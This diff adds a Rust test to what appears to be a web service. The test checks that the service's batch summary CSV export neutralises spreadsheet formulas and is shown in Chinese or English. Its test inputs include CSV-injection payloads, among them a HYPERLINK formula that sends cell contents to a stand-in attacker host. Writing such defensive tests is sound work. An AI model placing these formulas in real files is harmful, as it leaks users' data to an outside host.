@@ -300,3 +300,98 @@ fn a_job_json_from_before_is_adopted_on_start_and_read_once() {
         "adopted once, not read on every start"
     );
 }
+
+/// Values a spreadsheet would run as formulas (OWASP: CSV injection).
+const FORMULAS: [&str; 6] = [
+    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+    "+1+2",
+    "-3",
+    "@SUM(1+1)",
+    "\tx",
+    "\rx",
+];
+
+#[test]
+fn the_summary_csv_is_in_the_readers_language_with_ids_apart_and_no_formula() {
+    let s = Server::start(&Backend::Sqlite);
+    let t = s.tenant("acme");
+    let cookie = sign_in(&s, &t.editor);
+    let mut file: String = FORMULAS
+        .iter()
+        .map(|id| lines(1).replace("\"m-0\"", &serde_json::json!(id).to_string()))
+        .collect();
+    file.push_str("not json\n");
+    let id = job_id(&upload(&s, &cookie, "hostile.jsonl", &file));
+    wait_until("the job to finish", || {
+        jobs(&s, &t.id).iter().all(|j| j.state == JobState::Done)
+    });
+    let rs = livegate_core::default_ruleset().expect("the ruleset");
+    for lang in [livegate_core::Lang::Zh, livegate_core::Lang::En] {
+        let code = if lang == livegate_core::Lang::Zh {
+            "zh"
+        } else {
+            "en"
+        };
+        let r = page(
+            &s,
+            &format!("/batch/{id}/summary.csv"),
+            &format!("{cookie}; lg_lang={code}"),
+        );
+        assert_eq!(r.status, 200, "{}", r.text());
+        let text = r.text();
+        let body = text.strip_prefix('\u{feff}').expect("a byte-order mark");
+        let mut rd = csv::ReaderBuilder::new().from_reader(body.as_bytes());
+        let head: Vec<String> = rd
+            .headers()
+            .expect("a header")
+            .iter()
+            .map(String::from)
+            .collect();
+        let rows: Vec<csv::StringRecord> = rd.records().map(|r| r.expect("a row")).collect();
+        let col = |name: &str| {
+            head.iter()
+                .position(|h| h == name)
+                .unwrap_or_else(|| panic!("{name} in {head:?}"))
+        };
+        let cjk = |s: &str| s.chars().any(|c| ('\u{4e00}'..='\u{9fff}').contains(&c));
+        assert_eq!(head[0], if code == "zh" { "行号" } else { "Line" });
+        let path = &rs.paths[0];
+        let (name, ids) = (
+            col(path.name.get(lang)),
+            col(&format!("{}_missing", path.id)),
+        );
+        for (row, formula) in rows.iter().zip(FORMULAS) {
+            assert_eq!(&row[1], format!("'{formula}"), "neutralised");
+            assert!(
+                !row[ids].is_empty() && !cjk(&row[ids]),
+                "ids: {:?}",
+                &row[ids]
+            );
+            assert_eq!(
+                cjk(&row[name + 1]),
+                code == "zh",
+                "names: {:?}",
+                &row[name + 1]
+            );
+            assert_eq!(&row[col("verdict")], "needs_action");
+            assert_eq!(
+                cjk(&row[2]),
+                code == "zh",
+                "the verdict in words: {:?}",
+                &row[2]
+            );
+        }
+        let bad = rows.last().expect("the bad line");
+        assert_eq!(&bad[col("error_kind")], "invalid_json");
+        let message = &bad[head.len() - 1];
+        assert_eq!(cjk(message), code == "zh", "{code}: {message}");
+        for row in &rows {
+            for cell in row.iter() {
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{cell:?}"
+                );
+            }
+        }
+    }
+}
